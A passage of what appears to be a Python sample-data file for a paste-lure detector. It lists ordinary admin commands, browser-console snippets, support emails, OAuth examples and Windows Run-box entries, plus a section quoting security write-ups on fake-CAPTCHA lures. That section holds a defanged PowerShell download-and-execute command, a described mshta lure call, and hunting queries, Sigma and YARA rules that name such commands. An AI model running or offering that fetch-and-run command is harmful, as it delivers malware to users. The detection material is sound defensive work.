        "https://docs.aws.amazon.com/cli/latest/reference/sts/get-caller-identity.html",
        "aws sts get-caller-identity --profile prod",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/reference/ec2/describe-instances.html",
        "aws ec2 describe-instances --filters Name=instance-state-name,Values=running --query 'Reservations[].Instances[].[InstanceId,InstanceType,PrivateIpAddress]' --output table",
    ),
    (
        "https://docs.aws.amazon.com/AmazonECR/latest/userguide/getting-started-cli.html",
        "aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/install-azure-cli-linux",
        "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/vm",
        "az vm list -d -o table --query \"[?powerState=='VM running']\"",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/aks",
        "az aks get-credentials --resource-group rg-prod --name aks-prod --overwrite-existing",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/auth/login",
        "gcloud auth login --no-launch-browser",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/container/clusters/get-credentials",
        "gcloud container clusters get-credentials prod-cluster --region europe-west1 --project acme-prod",
    ),
    (
        "https://cloud.google.com/storage/docs/gsutil/commands/cp",
        "gcloud storage cp gs://acme-exports/2026-12-01/*.csv ./exports/",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/container/run/",
        "docker run -d --name pg -e POSTGRES_PASSWORD=devpass -p 5432:5432 -v pgdata:/var/lib/postgresql/data postgres:17",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/container/run/",
        'docker run --rm -it -v "$PWD":/work -w /work node:22-alpine npm test',
    ),
    (
        "https://docs.docker.com/reference/cli/docker/system/prune/",
        "docker system prune -af --volumes",
    ),
    (
        "https://docs.docker.com/compose/reference/",
        "docker compose -f docker-compose.prod.yml up -d --build --remove-orphans",
    ),
    (
        "https://docs.portainer.io/start/install-ce/server/docker/linux",
        "docker volume create portainer_data\ndocker run -d -p 8000:8000 -p 9443:9443 --name portainer --restart=always -v /var/run/docker.sock:/var/run/docker.sock -v portainer_data:/data portainer/portainer-ce:lts",
    ),
    (
        "https://docs.github.com/en/rest/repos/repos",
        'curl -L -H "Accept: application/vnd.github+json" -H "Authorization: Bearer $GITHUB_TOKEN" -H "X-GitHub-Api-Version: 2022-11-28" https://api.github.com/orgs/acme/repos',
    ),
    (
        "https://docs.stripe.com/api/customers/list",
        'curl -G https://api.stripe.com/v1/customers -u "sk_test_4eC39HqLyjWDarjtT1zdp7dc:" -d limit=3',
    ),
    (
        "https://platform.openai.com/docs/api-reference/models/list",
        'curl https://api.openai.com/v1/models -H "Authorization: Bearer $OPENAI_API_KEY"',
    ),
    (
        "https://docs.gitlab.com/ee/api/projects.html",
        'curl --header "PRIVATE-TOKEN: <your_access_token>" "https://gitlab.example.com/api/v4/projects?owned=true"',
    ),
    (
        "https://api.slack.com/messaging/webhooks",
        "curl -X POST -H 'Content-type: application/json' --data '{\"text\":\"Deploy finished\"}' https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
    ),
    (
        "https://developers.cloudflare.com/api/",
        'curl https://api.cloudflare.com/client/v4/zones -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN"',
    ),
    (
        "https://www.digitalocean.com/community/tutorials/how-to-set-up-ssh-keys-on-ubuntu-20-04",
        'ssh-keygen -t ed25519 -C "you@example.com"\nssh-copy-id deploy@203.0.113.10',
    ),
    (
        "https://www.digitalocean.com/community/tutorials/how-to-set-up-a-firewall-with-ufw-on-ubuntu",
        "sudo ufw allow OpenSSH\nsudo ufw allow 'Nginx Full'\nsudo ufw enable",
    ),
    (
        "https://certbot.eff.org/instructions?ws=nginx&os=snap",
        "sudo snap install --classic certbot\nsudo ln -s /snap/bin/certbot /usr/bin/certbot\nsudo certbot --nginx",
    ),
    ("https://nginx.org/en/docs/beginners_guide.html", "sudo nginx -t && sudo nginx -s reload"),
    (
        "https://askubuntu.com/questions/1705/how-can-i-create-a-select-menu-in-a-shell-script",
        "df -hT | grep -v tmpfs",
    ),
    (
        "https://askubuntu.com/questions/17823/how-to-list-all-installed-packages",
        "apt list --installed 2>/dev/null | grep -i python3",
    ),
    (
        "https://unix.stackexchange.com/questions/9456/what-is-the-easiest-way-to-find-large-files",
        "sudo du -ahx / 2>/dev/null | sort -rh | head -n 20",
    ),
    (
        "https://unix.stackexchange.com/questions/28503/how-to-check-open-ports",
        "sudo ss -tulpn | grep LISTEN",
    ),
    (
        "https://unix.stackexchange.com/questions/36627/lsof-deleted-files",
        "sudo lsof +L1 | grep deleted",
    ),
    (
        "https://serverfault.com/questions/9546/filename-length-limits",
        "find /var/log -name '*.gz' -mtime +30 -delete",
    ),
    (
        "https://wiki.archlinux.org/title/Pacman",
        "sudo pacman -Syu\npacman -Qdtq | sudo pacman -Rns -",
    ),
    ("https://wiki.archlinux.org/title/Mkinitcpio", "sudo mkinitcpio -P"),
    ("https://wiki.archlinux.org/title/GRUB", "sudo grub-mkconfig -o /boot/grub/grub.cfg"),
    (
        "https://docs.redhat.com/en/documentation/red_hat_enterprise_linux/9/html/using_selinux/",
        "sudo ausearch -m AVC -ts recent | audit2allow -M mypolicy\nsudo semodule -i mypolicy.pp",
    ),
    (
        "https://www.rsyslog.com/doc/configuration/",
        'logger -t backup "nightly backup finished"; tail -n 5 /var/log/syslog',
    ),
    (
        "https://rsync.samba.org/examples.html",
        "rsync -avz --delete --exclude '.git' ./site/ deploy@203.0.113.25:/var/www/site/",
    ),
    (
        "https://www.openssl.org/docs/manmaster/man1/openssl-s_client.html",
        "openssl s_client -connect example.com:443 -servername example.com </dev/null | openssl x509 -noout -dates",
    ),
    (
        "https://www.openssl.org/docs/manmaster/man1/openssl-req.html",
        'openssl req -x509 -newkey rsa:4096 -nodes -keyout key.pem -out cert.pem -days 365 -subj "/CN=localhost"',
    ),
    (
        "https://git-scm.com/docs/git-config",
        'git config --global user.name "Jane Doe"\ngit config --global user.email jane@example.com',
    ),
    (
        "https://git-scm.com/docs/git-filter-branch",
        "git filter-repo --path secrets.env --invert-paths",
    ),
    (
        "https://docs.github.com/en/authentication/connecting-to-github-with-ssh",
        'eval "$(ssh-agent -s)"\nssh-add ~/.ssh/id_ed25519',
    ),
    (
        "https://postgresql.org/docs/current/app-pgdump.html",
        "pg_dump -Fc -h db.internal.example -U app appdb > appdb-$(date +%F).dump",
    ),
    (
        "https://dev.mysql.com/doc/refman/8.4/en/mysqldump.html",
        "mysqldump --single-transaction --routines -u root -p shop > shop.sql",
    ),
    (
        "https://redis.io/docs/latest/develop/tools/cli/",
        "redis-cli -h 127.0.0.1 -p 6379 --scan --pattern 'session:*' | head",
    ),
    (
        "https://www.raspberrypi.com/documentation/computers/os.html",
        "sudo apt update && sudo apt full-upgrade -y && sudo rpi-eeprom-update -a",
    ),
    (
        "https://docs.nvidia.com/datacenter/cloud-native/container-toolkit/latest/install-guide.html",
        "curl -fsSL https://nvidia.github.io/libnvidia-container/gpgkey | sudo gpg --dearmor -o /usr/share/keyrings/nvidia-container-toolkit-keyring.gpg",
    ),
    (
        "https://docs.nvidia.com/datacenter/cloud-native/container-toolkit/latest/install-guide.html",
        "sudo nvidia-ctk runtime configure --runtime=docker\nsudo systemctl restart docker",
    ),
    (
        "https://ollama.com/blog/ollama-is-now-available-as-an-official-docker-image",
        "docker run -d --gpus=all -v ollama:/root/.ollama -p 11434:11434 --name ollama ollama/ollama",
    ),
    (
        "https://crontab.guru/examples.html",
        '(crontab -l 2>/dev/null; echo "15 2 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1") | crontab -',
    ),
    (
        "https://www.cyberciti.biz/faq/how-to-add-swap-on-ubuntu/",
        "sudo fallocate -l 4G /swapfile && sudo chmod 600 /swapfile && sudo mkswap /swapfile && sudo swapon /swapfile",
    ),
    (
        "https://www.cyberciti.biz/faq/linux-list-users-command/",
        "getent passwd | awk -F: '$3 >= 1000 {print $1}'",
    ),
    (
        "https://linuxize.com/post/how-to-add-user-to-sudoers-in-ubuntu/",
        "sudo usermod -aG sudo deploy",
    ),
]

MAC_ADMIN = [
    (
        "https://support.apple.com/en-us/102149",
        "xattr -d com.apple.quarantine /Applications/Obsidian.app",
    ),
    ("https://docs.brew.sh/FAQ", "brew update && brew upgrade && brew cleanup --prune=all"),
    ("https://docs.brew.sh/Manpage", "brew bundle dump --file=~/Brewfile --force"),
    (
        "https://macos-defaults.com/dock/autohide.html",
        "defaults write com.apple.dock autohide -bool true && killall Dock",
    ),
    (
        "https://macos-defaults.com/finder/appleshowallfiles.html",
        "defaults write com.apple.finder AppleShowAllFiles -bool true; killall Finder",
    ),
    (
        "https://macos-defaults.com/screenshots/location.html",
        "defaults write com.apple.screencapture location ~/Pictures/Screenshots && killall SystemUIServer",
    ),
    ("https://ss64.com/mac/launchctl.html", "launchctl list | grep -v com.apple"),
    ("https://ss64.com/mac/launchctl.html", "launchctl bootout gui/$(id -u)/com.example.agent"),
    ("https://support.apple.com/guide/terminal/", "sudo softwareupdate --install --all --restart"),
    (
        "https://support.apple.com/en-us/101578",
        "sudo /Applications/Install\\ macOS\\ Sequoia.app/Contents/Resources/createinstallmedia --volume /Volumes/MyVolume",
    ),
    ("https://ss64.com/mac/pmset.html", "pmset -g batt; pmset -g assertions"),
    ("https://ss64.com/mac/networksetup.html", "networksetup -listallhardwareports"),
    (
        "https://ss64.com/mac/dscacheutil.html",
        "sudo dscacheutil -flushcache; sudo killall -HUP mDNSResponder",
    ),
    ("https://ss64.com/mac/spctl.html", "spctl --assess --verbose /Applications/Firefox.app"),
    ("https://ss64.com/mac/codesign.html", "codesign -dv --verbose=4 /Applications/Slack.app"),
    (
        "https://developer.apple.com/documentation/security/customizing-the-notarization-workflow",
        'xcrun notarytool submit MyApp.zip --keychain-profile "AC_PASSWORD" --wait',
    ),
    ("https://ss64.com/mac/diskutil.html", "diskutil list external physical"),
    ("https://ss64.com/mac/tmutil.html", "tmutil listlocalsnapshots /"),
    ("https://ss64.com/mac/mdutil.html", "sudo mdutil -E /"),
    (
        "https://ss64.com/mac/log.html",
        "log show --predicate 'process == \"kernel\"' --last 30m --style compact",
    ),
    ("https://ss64.com/mac/caffeinate.html", "caffeinate -dimsu -t 3600"),
    ("https://ss64.com/mac/scutil.html", "sudo scutil --set HostName studio-mbp"),
    (
        "https://docs.brew.sh/Installation",
        'echo \'eval "$(/opt/homebrew/bin/brew shellenv)"\' >> ~/.zprofile\neval "$(/opt/homebrew/bin/brew shellenv)"',
    ),
    (
        "https://github.com/nvm-sh/nvm#troubleshooting-on-macos",
        "touch ~/.zshrc && source ~/.zshrc && nvm install --lts",
    ),
    (
        "https://support.1password.com/command-line-getting-started/",
        "brew install 1password-cli\nop signin",
    ),
    (
        "https://docs.docker.com/desktop/setup/install/mac-install/",
        "sudo hdiutil attach Docker.dmg\nsudo /Volumes/Docker/Docker.app/Contents/MacOS/install\nsudo hdiutil detach /Volumes/Docker",
    ),
]

# -- (c) browser-console snippets developers paste ------------------------------------------------

CONSOLE_SNIPPETS = [
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/querySelectorAll",
        "document.querySelectorAll('img:not([alt])').forEach(img => console.log(img.src))",
    ),
    (
        "https://stackoverflow.com/questions/3871547/iterating-over-result-of-getelementsbyclassname",
        "[...document.querySelectorAll('a[href]')].map(a => a.href).filter(h => h.startsWith('http'))",
    ),
    (
        "https://web.dev/articles/lcp",
        "new PerformanceObserver((list) => { const entries = list.getEntries(); console.log('LCP', entries[entries.length - 1]); }).observe({type: 'largest-contentful-paint', buffered: true});",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Performance/getEntriesByType",
        "performance.getEntriesByType('resource').sort((a, b) => b.duration - a.duration).slice(0, 10).map(r => [r.name, Math.round(r.duration)])",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/PerformanceNavigationTiming",
        "const [nav] = performance.getEntriesByType('navigation'); console.table({ttfb: nav.responseStart, dom: nav.domContentLoadedEventEnd, load: nav.loadEventEnd})",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy(JSON.stringify([...document.querySelectorAll('table tr')].map(tr => [...tr.cells].map(td => td.innerText)), null, 2))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "monitorEvents(window, 'resize')",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "$$('h2').map(h => h.textContent.trim())",
    ),
    ("https://developer.chrome.com/docs/devtools/console/utilities", "queryObjects(Promise)"),
    (
        "https://app.acme-dashboard.example/settings",
        "fetch('/api/v1/me').then(r => r.json()).then(console.log)",
    ),
    (
        "https://app.acme-dashboard.example/projects",
        "await fetch('/api/projects?limit=100', {credentials: 'same-origin'}).then(r => r.json())",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/localStorage",
        "localStorage.getItem('theme')",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/localStorage",
        "localStorage.setItem('debug', 'app:*'); location.reload()",
    ),
    (
        "https://stackoverflow.com/questions/17745292/how-to-retrieve-all-localstorage-items-without-knowing-the-keys-in-advance",
        "Object.keys(localStorage).length",
    ),
    ("https://react.dev/learn/react-developer-tools", "$r.props"),
    (
        "https://vuejs.org/guide/scaling-up/tooling.html",
        "document.querySelector('#app').__vue_app__.config.globalProperties",
    ),
    ("https://angular.dev/tools/devtools", "ng.getComponent(document.querySelector('app-root'))"),
    (
        "https://stackoverflow.com/questions/1484506/random-color-generator",
        "document.body.style.outline = '1px solid red'; document.querySelectorAll('*').forEach(el => el.style.outline = '1px solid #' + (~~(Math.random() * (1 << 24))).toString(16))",
    ),
    ("https://css-tricks.com/snippets/javascript/", "document.designMode = 'on'"),
    (
        "https://stackoverflow.com/questions/6356626/get-all-input-values",
        "Array.from(document.forms[0].elements).map(e => `${e.name}=${e.value}`).join('&')",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Navigator/serviceWorker",
        "navigator.serviceWorker.getRegistrations().then(rs => rs.forEach(r => r.unregister()))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Cache",
        "caches.keys().then(keys => Promise.all(keys.map(k => caches.delete(k))))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/IDBFactory/databases",
        "indexedDB.databases().then(console.log)",
    ),
    (
        "https://github.com/orgs/community/discussions/23936",
        "document.querySelectorAll('button.js-toggle-outdated-comments').forEach(b => b.click())",
    ),
    (
        "https://www.reddit.com/r/youtube/comments/playlist_duration",
        "Array.from(document.querySelectorAll('ytd-playlist-video-renderer span#text')).map(s => s.textContent.trim().split(':').reduce((a, v) => a * 60 + +v, 0)).reduce((a, b) => a + b, 0) / 3600",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Clipboard/writeText",
        "await navigator.clipboard.writeText(location.href)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/URLSearchParams",
        "Object.fromEntries(new URLSearchParams(location.search))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Intl/DateTimeFormat",
        "Intl.DateTimeFormat().resolvedOptions().timeZone",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Navigator/userAgentData",
        "navigator.userAgentData.getHighEntropyValues(['platformVersion', 'architecture'])",
    ),
    (
        "https://web.dev/articles/cls",
        "let cls = 0; new PerformanceObserver(l => { for (const e of l.getEntries()) if (!e.hadRecentInput) cls += e.value; console.log('CLS', cls); }).observe({type: 'layout-shift', buffered: true});",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/api",
        "console.time('render'); renderList(items); console.timeEnd('render')",
    ),
    (
        "https://docs.sentry.io/platforms/javascript/troubleshooting/",
        "Sentry.captureMessage('console test from ' + location.host)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
        "document.cookie.split('; ').map(c => c.split('=')[0])",
    ),
    ("https://stackoverflow.com/questions/1890512/generate-a-uuid", "crypto.randomUUID()"),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/SubtleCrypto/digest",
        "const buf = await crypto.subtle.digest('SHA-256', new TextEncoder().encode('hello')); [...new Uint8Array(buf)].map(b => b.toString(16).padStart(2, '0')).join('')",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/atob",
        "JSON.parse(atob(token.split('.')[1]))",
    ),
    (
        "https://github.com/harrowfield/admin-ui/issues/212",
        "window.__APOLLO_CLIENT__.cache.extract()",
    ),
    (
        "https://docs.google.com/spreadsheets/d/1abc/edit",
        "document.querySelectorAll('.docs-sheet-tab-name').forEach(t => console.log(t.textContent))",
    ),
]

# -- (d) security write-ups quoting lures ---------------------------------------------------------

WRITEUP = "https://www.example.com/research/2026/fake-captcha-wave"
WRITEUPS = [
    (
        "https://www.example.com/research/2026/fake-captcha-wave",
        "The page instructs the visitor to press Windows+R, paste, and press Enter. The clipboard "
        'holds an mshta call to hxxps://verify-step[.]test/c.hta followed by a fake "I am not a '
        'robot" comment. We recommend blocking mshta.exe with WDAC.',
    ),
    (
        "https://www.example.com/research/2026/fake-captcha-wave",
        "Indicators of compromise:\n- verify-step[.]test\n- 198.51.100[.]77\n- cdn-check[.]invalid/"
        "gate.php\nSHA-256: 9f86d081884c7d659a2feaea0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a0",
    ),
    (
        "https://www.example.com/blog/filefix-explained",
        "FileFix abuses the File Explorer address bar instead of the Run box: the victim is told to "
        'open a "shared document" path, and the copied text is actually a PowerShell command padded '
        "with spaces so that only the fake path shows.",
    ),
    (
        "https://www.example.com/blog/detection-engineering-clickfix",
        'A simple hunting query:\n\nDeviceProcessEvents\n| where InitiatingProcessFileName =~ "explorer.exe"\n'
        '| where FileName in~ ("powershell.exe", "mshta.exe", "cmd.exe")\n| where ProcessCommandLine '
        'has_any ("iex", "irm", "http")',
    ),
    (
        "https://www.example.com/blog/detection-engineering-clickfix",
        "title: Run box launching PowerShell with web request\nlogsource:\n  product: windows\n  "
        "category: registry_set\ndetection:\n  selection:\n    TargetObject|contains: '\\RunMRU\\'\n    "
        "Details|contains|all: ['powershell', 'http']\n  condition: selection\nlevel: high",
    ),
    (
        "https://www.example.com/research/amos-stealer-2026",
        "On macOS the lure asks the user to open Terminal and paste a command that base64-decodes "
        "and runs a script from a look-alike domain; the script then asks for the login password "
        "with osascript and collects browser data. Apple's Gatekeeper is not involved because no "
        "app is opened.",
    ),
    (
        "https://www.example.com/research/lumma-delivery",
        "Stage two is a heavily obfuscated PowerShell loader. It reflectively loads a .NET "
        "assembly and injects into a signed process. We do not reproduce the command here.",
    ),
    (
        "https://www.example.com/newsletter/issue-88",
        "This week: fake CAPTCHA pages keep evolving. Attackers now copy commands that look like "
        '"Verification ID: 48213" comments, hiding the real payload at the start of the line. '
        "Remind your users: no real website will ever ask you to paste something into Win+R.",
    ),
    (
        "https://www.example.com/security-awareness/paste-warning",
        "If a web page tells you to press Win + R and then Ctrl + V, close it. That is a scam. Real "
        "CAPTCHAs only ask you to click pictures or tick a box.",
    ),
    (
        "https://www.example.com/blog/yara-for-clipboard",
        'rule clickfix_clipboard {\n  strings:\n    $a = "mshta" nocase\n    $b = "I am not a robot" '
        'nocase\n    $c = "Verification ID" nocase\n  condition:\n    $a and ($b or $c)\n}',
    ),
    (
        "https://www.example.com/research/2026/consentfix",
        "ConsentFix works by convincing the victim to copy a localhost URL from the address bar after "
        "an OAuth sign-in and paste it back into the phishing page, handing over the authorization "
        "code. Defenders should monitor sign-ins for the Azure CLI client from unusual locations.",
    ),
    (
        "https://www.example.com/research/2026/fake-update",
        'Observed command (defanged): powershell -w h -c "iwr hxxp://198.51.100[.]23/u | iex". '
        "The IP served a different payload per user agent.",
    ),
    (
        "https://www.example.com/incident-report/IR-2026-0412",
        "Timeline (UTC):\n09:12 user visits compromised WordPress site\n09:13 fake Cloudflare check "
        "shown\n09:14 RunMRU entry created with powershell command\n09:15 EDR blocks child process\n"
        "Root cause: user followed on-screen instructions.",
    ),
    (
        "https://www.example.com/blog/soc-notes",
        "Lesson learned: blocking Win+R via GPO (NoRun) stopped most of these attempts, but users "
        "were then told to use the search bar instead. Training matters more than any single "
        "control.",
    ),
]

# -- (e) support mails and order confirmations with phone numbers ---------------------------------

MAILS = [
    (
        "outlook",
        "Hi Maria,\n\nThanks for contacting Harrowfield IT. Your ticket INC0048213 has been resolved: "
        "your mailbox quota was raised to 100 GB. If anything is still wrong, reply to this mail or "
        "call the service desk at +1 (555) 010-4477, Mon-Fri 8:00-18:00.\n\nBest regards,\nTom",
    ),
    (
        "outlook",
        "Your order #A-20931 has shipped!\nCarrier: UPS, tracking 1Z999AA10123456784\nExpected "
        "delivery: Thursday, Dec 10\nQuestions? Call us at 555-0188 or visit our help center.",
    ),
    (
        "thunderbird",
        "Dear customer,\nyour appointment at the Quillmere dental clinic is confirmed for 14 December "
        "at 10:30. To reschedule please call 020 7946 0555 (reception) at least 24 hours ahead.",
    ),
    (
        "https://mail.google.com/mail/u/0/#inbox",
        "Hello,\n\nThe scheduled maintenance of the VPN gateway will take place on Saturday from "
        "22:00 to 02:00. During this window remote access is unavailable. For urgent issues call "
        "the on-call engineer at +1 555 0100 231.\n\nIT Operations",
    ),
    (
        "outlook",
        "Reminder: your password expires in 5 days. Change it at any time by pressing Ctrl+Alt+Del "
        'and choosing "Change a password" while connected to the office network or VPN. Questions? '
        "Service desk: extension 4477 or (555) 010-4477.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Hi team,\nnew laptops arrive next week. Please back up anything stored only on your desktop "
        "to OneDrive before Friday. The swap takes 20 minutes; book a slot here: "
        "https://intranet.harrowfield.example/it/laptop-swap\nThanks, Priya",
    ),
    (
        "slack",
        "heads up: the printer on floor 3 has a new address, if it doesn't show up just add "
        "\\\\print01\\Floor3-Color again from Settings > Printers",
    ),
    (
        "teams",
        "Can you send me the output of `ipconfig /all` and `Test-NetConnection vpn.harrowfield.example "
        "-Port 443`? Then I can see why the VPN won't connect.",
    ),
    (
        "outlook",
        "Thank you for your purchase!\nOrder number: 7731-0042\nItem: USB-C dock (x1) - $189.00\n"
        "Billing questions: billing@shop.example or 1-555-0142 (toll free)",
    ),
    (
        "https://mail.yahoo.com/",
        "Your flight QF 0555 from SYD to MEL on 18 Dec is confirmed. Booking reference XK7Q2P. "
        "Manage your booking online or call reservations on 13 00 55 (cost of a local call).",
    ),
    (
        "outlook",
        "Hi,\n\nAs discussed on the phone, here are the steps to reconnect the shared drive:\n1. "
        "Open File Explorer\n2. Right-click This PC > Map network drive\n3. Folder: "
        "\\\\fs01\\departments\\sales\n4. Tick Reconnect at sign-in\n\nKind regards,\nService Desk",
    ),
    (
        "outlook",
        "Dear Mr. Okafor,\nyour bank card ending 4821 has been sent to your registered address. "
        "It will arrive within 5 working days. If you did not request a new card, call the number "
        "on the back of your current card.",
    ),
    (
        "thunderbird",
        "Hallo Frau Berger,\nIhr Termin in der Kfz-Werkstatt ist am Dienstag um 8:00 Uhr. Bei "
        "Fragen erreichen Sie uns unter 0555 123456.\nMit freundlichen Grüßen\nIhr Werkstatt-Team",
    ),
    (
        "https://mail.google.com/mail/u/0/#inbox",
        "Bonjour,\nvotre colis 6A12345678901 sera livré demain entre 9h et 13h. Pour modifier la "
        "livraison, appelez le 01 55 50 12 34 ou rendez-vous sur votre espace client.",
    ),
]

# -- (f) OAuth/OIDC docs --------------------------------------------------------------------------

OAUTH = [
    (
        "https://auth0.com/docs/get-started/authentication-and-authorization-flow/authorization-code-flow",
        "https://{yourDomain}/authorize?response_type=code&client_id={yourClientId}&redirect_uri="
        "{https://yourApp/callback}&scope={scope}&state={state}",
    ),
    (
        "https://developer.okta.com/docs/guides/implement-grant-type/authcode/main/",
        "curl --request POST --url https://${yourOktaDomain}/oauth2/default/v1/token --header "
        "'accept: application/json' --header 'content-type: application/x-www-form-urlencoded' "
        "--data 'grant_type=authorization_code&redirect_uri=${redirectUri}&code=${code}'",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
        "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=00001111-aaaa-2222-"
        "bbbb-3333cccc4444&response_type=code&redirect_uri=http%3A%2F%2Flocalhost%2Fmyapp%2F&"
        "response_mode=query&scope=https%3A%2F%2Fgraph.microsoft.com%2Fmail.read&state=12345",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "http://127.0.0.1:port\nhttp://[::1]:port\n\nQuery your platform for the relevant loopback "
        "IP address and start an HTTP listener on a random available port.",
    ),
    (
        "https://www.rfc-editor.org/rfc/rfc8628",
        "      +----------+                                +----------------+\n      |          |>---(A)-- "
        "Client Identifier --->|                |\n      |          |                                "
        "|                |\n      |          |<---(B)-- Device Code,      ---<|                |",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps",
        "POST https://github.com/login/device/code\nclient_id=Iv1.abc123&scope=repo\n\nResponse:\n"
        "device_code=3584d83530557fdd1f46af8289938c8ef79f9dc5&user_code=WDJB-MJHT&verification_uri="
        "https%3A%2F%2Fgithub.com%2Flogin%2Fdevice&expires_in=900&interval=5",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
        "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter "
        "the code FH4G-2K9P to authenticate.",
    ),
    (
        "https://www.oauth.com/oauth2-servers/pkce/authorization-request/",
        "code_verifier = high-entropy cryptographic random STRING using the unreserved characters "
        '[A-Z] / [a-z] / [0-9] / "-" / "." / "_" / "~", with a minimum length of 43 characters\n'
        "code_challenge = BASE64URL-ENCODE(SHA256(ASCII(code_verifier)))",
    ),
    (
        "https://openid.net/specs/openid-connect-core-1_0.html",
        "  HTTP/1.1 302 Found\n  Location: https://client.example.org/cb?\n    code=SplxlOBeZQQYbYS6WxSbIA\n    &state=af0ifjsldkj",
    ),
    (
        "https://docs.aws.amazon.com/cognito/latest/developerguide/authorization-endpoint.html",
        "https://auth.example.com/oauth2/authorize?response_type=code&client_id=1example23456789&"
        "redirect_uri=https://www.example.com&state=abcdefg&scope=openid+profile",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/auth/login",
        "gcloud auth application-default login --no-browser",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively",
        "az login --use-device-code",
    ),
    (
        "https://docs.github.com/en/get-started/using-github/github-cli",
        "gh auth login --hostname github.com --git-protocol https --web",
    ),
    (
        "https://www.keycloak.org/docs/latest/securing_apps/",
        '{\n  "realm": "demo",\n  "auth-server-url": "http://localhost:8080/",\n  "resource": '
        '"vanilla",\n  "redirectUris": ["http://localhost:3000/*"],\n  "publicClient": true\n}',
    ),
    (
        "https://next-auth.js.org/configuration/providers/oauth",
        "NEXTAUTH_URL=http://localhost:3000\nGITHUB_ID=Iv1.0123456789abcdef\nGITHUB_SECRET=<secret>\n"
        "# callback: http://localhost:3000/api/auth/callback/github",
    ),
    (
        "https://supabase.com/docs/guides/auth/social-login/auth-google",
        "Authorized redirect URIs: https://<project-ref>.supabase.co/auth/v1/callback",
    ),
]

# -- (g) Run-box and Explorer entries people type ------------------------------------------------

RUNBOX = [
    "control printers",
    "control /name Microsoft.DeviceManager",
    "control mmsys.cpl,,1",
    "inetcpl.cpl",
    "firewall.cpl",
    "ncpa.cpl",
    "timedate.cpl",
    "main.cpl",
    "desk.cpl",
    "sysdm.cpl,,3",
    "ms-settings:windowsupdate",
    "ms-settings:privacy-microphone",
    "ms-settings:network-proxy",
    "ms-settings:defaultapps",
    "ms-settings:storagesense",
    "ms-settings:bluetooth",
    "%appdata%\\Microsoft\\Teams",
    "%localappdata%\\Temp",
    "%programdata%",
    "%userprofile%\\Downloads",
    "shell:startup",
    "shell:common startup",
    "shell:sendto",
    "shell:fonts",
    "shell:recent",
    "shell:AppsFolder",
    "compmgmt.msc",
    "diskmgmt.msc",
    "eventvwr.msc",
    "services.msc",
    "gpedit.msc",
    "lusrmgr.msc",
    "certmgr.msc",
    "devmgmt.msc",
    "taskschd.msc",
    "perfmon /rel",
    "resmon",
    "msinfo32",
    "winver",
    "dxdiag",
    "osk",
    "charmap",
    "mstsc /v:ts01.harrowfield.example",
    "mstsc /v:198.51.100.44 /admin",
    "mstsc /f",
    "ping -t 192.0.2.1",
    "ping 8.8.8.8 -n 20",
    "\\\\fileserver\\share",
    "\\\\fs01\\Projects\\2026",
    "\\\\nas.local\\photos",
    "cmd",
    "powershell",
    "wt",
    "notepad",
    "calc",
    "mspaint",
    "snippingtool",
    "regedit",
    "msconfig",
    "cleanmgr",
    "mrt",
    "optionalfeatures",
    "appwiz.cpl",
    "rstrui",
    "wf.msc",
    "secpol.msc",
    "sigverif",
    "verifier",
    "mdsched",
    "magnify",
    "narrator",
    "write",
    "explorer",
    "explorer shell:Downloads",
    "outlook /safe",
    "winword /safe",
    "excel /safe",
    "chrome --incognito",
    "msedge --inprivate",
    "firefox -private-window",
    "shutdown /r /t 0",
    "shutdown /s /t 3600",
    "shutdown /a",
    "netplwiz",
    "control userpasswords2",
    "rundll32.exe sysdm.cpl,EditEnvironmentVariables",
    "mmc",
    "mmc compmgmt.msc /computer=PC-0142",
    "\\\\print01",
    "%temp%",
    "%windir%\\system32\\drivers\\etc",
    "ms-settings:",
    "ms-settings:display",
    "cmd /k ipconfig /all",
    "powershell -noexit -command Get-NetIPConfiguration",
    "ms-screenclip:",
    "mailto:helpdesk@harrowfield.example",
